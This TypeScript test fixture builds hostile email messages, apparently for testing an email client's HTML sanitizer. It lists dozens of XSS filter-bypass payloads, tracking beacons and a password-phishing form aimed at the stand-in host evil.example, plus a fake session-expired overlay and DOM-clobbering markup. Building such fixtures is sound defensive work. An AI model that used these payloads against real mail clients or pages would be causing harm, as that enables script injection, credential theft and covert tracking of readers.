/**
 * Mails that want to run something in the reader's page, or to tell somebody that they were read: known ways past filters,
 * one each. What they run is `owned()`, what they ask is below `https://evil.example/`.
 */
const OWN = 'top.owned=1;parent.owned=1;window.owned=1';
const FAR = 'https://evil.example/';

const BODIES: readonly string[] = [
  `<script>${OWN}</script>`,
  `<scr<script>ipt>${OWN}</scr</script>ipt>`,
  `<img src=x onerror="${OWN}">`,
  `<img src="x\`><script>${OWN}</script>"\`>`,
  `<svg onload="${OWN}"></svg>`,
  `<svg><script>${OWN}</script></svg>`,
  `<svg><animate onbegin="${OWN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${OWN}'/></svg>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${OWN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${OWN}&gt;">`,
  `<math><mi xlink:href="javascript:${OWN}">click</mi></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${OWN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${OWN}>">`,
  `<template><img src=x onerror="${OWN}"></template>`,
  `<iframe src="javascript:${OWN}"></iframe>`,
  `<iframe srcdoc="<script>${OWN}</script>"></iframe>`,
  `<object data="javascript:${OWN}"></object><embed src="javascript:${OWN}">`,
  `<a href="javascript:${OWN}" id=x>x</a><a href="  java&#10;script:${OWN}">y</a><a href="data:text/html,<script>${OWN}</script>">z</a>`,
  `<body onload="${OWN}" onpageshow="${OWN}" onfocus="${OWN}">x`,
  `<details open ontoggle="${OWN}">x</details><input autofocus onfocus="${OWN}"><select autofocus onfocus="${OWN}">`,
  `<video><source onerror="${OWN}"></video><audio src=x onerror="${OWN}"></audio>`,
  `<marquee onstart="${OWN}">x</marquee><div style="animation-name:x" onanimationstart="${OWN}">x</div>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${OWN}">`,
  `<base href="${FAR}"><a href="relative">x</a><img src="relative.gif">`,
  `<form action="${FAR}form" method=post><input name=password><button>Sign in</button></form>`,
  `<style>@import "${FAR}import"; @import url(${FAR}import2); @font-face{font-family:x;src:url(${FAR}font)} *{background:url("${FAR}bg")!important;font-family:x;cursor:url(${FAR}cursor),auto}</style>x`,
  `<style>p{background:url(\\68 ttps://evil.example/escaped)}q{list-style:url(//evil.example/scheme)}</style><p>x<q>y`,
  `<p style="background:u\\72l(${FAR}escaped2)">x</p><p style='background-image:image-set("${FAR}set" 1x)'>y</p>`,
  `<p style="--x:url(${FAR}var);background:var(--x)">x</p><p style="border-image:url(${FAR}border) 1">y</p>`,
  `<link rel=stylesheet href="${FAR}css"><link rel=preload as=image href="${FAR}preload"><link rel=dns-prefetch href="//dns.evil.example"><link rel=prerender href="${FAR}p">`,
  `<img src="${FAR}pixel.gif" width=1 height=1><img srcset="${FAR}2x.gif 2x"><picture><source srcset="${FAR}p.gif"><img></picture>`,
  `<img src="//evil.example/scheme-relative.gif"><img src="/jmap/api"><img src="/hub/slots"><img lowsrc="${FAR}low" dynsrc="${FAR}dyn">`,
  `<table background="${FAR}table"><tr><td background="${FAR}td">x</td></tr></table><body background="${FAR}body">`,
  `<video poster="${FAR}poster" autoplay><source src="${FAR}video"><track src="${FAR}track"></video><audio src="${FAR}audio" autoplay></audio>`,
  `<svg><image href="${FAR}svg"/><image xlink:href="${FAR}svg2"/><feImage href="${FAR}fe"/></svg>`,
  `<iframe src="${FAR}frame"></iframe><object data="${FAR}object"></object><embed src="${FAR}embed"><frameset><frame src="${FAR}f"></frameset>`,
  `<a href="${FAR}ping" ping="${FAR}pinged">x</a><blockquote cite="${FAR}cite">y</blockquote><input type=image src="${FAR}input">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:white">Your session has expired</div>`,
  `<p id="app"></p><p name="location"></p><form id="document"><input name="cookie"></form><img name="currentScript">`,
  `<plaintext><script>${OWN}</script>`,
  `<!--><script>${OWN}</script>--><![CDATA[<img src=x onerror="${OWN}">]]><?xml ?><script>${OWN}</script>`,
  `<xmp><img src=x onerror="${OWN}"></xmp><title><img src=x onerror="${OWN}"></title><textarea><img src=x onerror="${OWN}"></textarea>`,
  `<a href="x" style="x:expression(${OWN});-moz-binding:url(${FAR}xbl);behavior:url(${FAR}htc)">x</a>`,
  `<img src="data:text/html,<script>${OWN}</script>"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${OWN}'/>">`,
];

/** Ready to be imported; the subject names the body's number. */
export function hostileMails(): readonly string[] {
  const head = (index: number, type: string): string =>
    `From: Mallory <mallory@evil.example>\r\nTo: alice\r\nSubject: hostile ${index}\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n`;
  const html = BODIES.map((body, index) => `${head(index, 'text/html; charset=utf-8')}${body}\r\n`);
  // What stands in headers and in plain text is shown too.
  const mark = `<img src=x onerror=${OWN}>`;
  const headers = `From: "${mark}" <a@evil.example>\r\nTo: "${mark}" <b@evil.example>\r\nSubject: hostile ${mark}\r\nMIME-Version: 1.0\r\n`;
  const named = `${headers}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n${mark} javascript:${OWN} ${FAR}text\r\n--b\r\nContent-Type: text/html; name="${mark}.html"\r\nContent-Disposition: attachment; filename="${mark}.html"\r\n\r\n<script>${OWN}</script>\r\n--b--\r\n`;
  return [...html, named];
}
